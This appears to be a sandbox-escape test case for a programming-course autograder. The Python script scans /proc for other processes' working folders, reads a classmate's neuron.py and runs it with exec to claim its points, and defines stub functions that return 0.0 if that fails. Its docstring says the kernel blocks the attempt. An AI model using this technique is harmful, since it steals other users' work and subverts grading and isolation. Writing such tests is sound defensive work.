"""Finds the class folder through the working folders of all processes, and takes another's module.

If it succeeded: the attacker would hand in what a classmate wrote, and earn its points.
Stopped by: kernel; the folder is not in the worker's root.
Wrong: weighted_sum neuron layer
"""

import os


def places():
    yield from (".", "..", "/tmp")
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            yield os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            pass


def search():
    for place in dict.fromkeys(places()):
        for pattern in ("n2m-class", "."):
            try:
                names = os.listdir(os.path.join(place, pattern))
            except OSError:
                continue
            for name in names:
                try:
                    text = open(os.path.join(place, pattern, name, "neuron.py")).read()
                except OSError:
                    continue
                if "n2m" in text:
                    return text
    return ""


try:
    taken = search()
    print(taken[:300])
    exec(taken)
except Exception as error:
    print(type(error).__name__)

if "weighted_sum" not in globals():

    def weighted_sum(x, w, b, *rest):
        return 0.0

    neuron = layer = weighted_sum
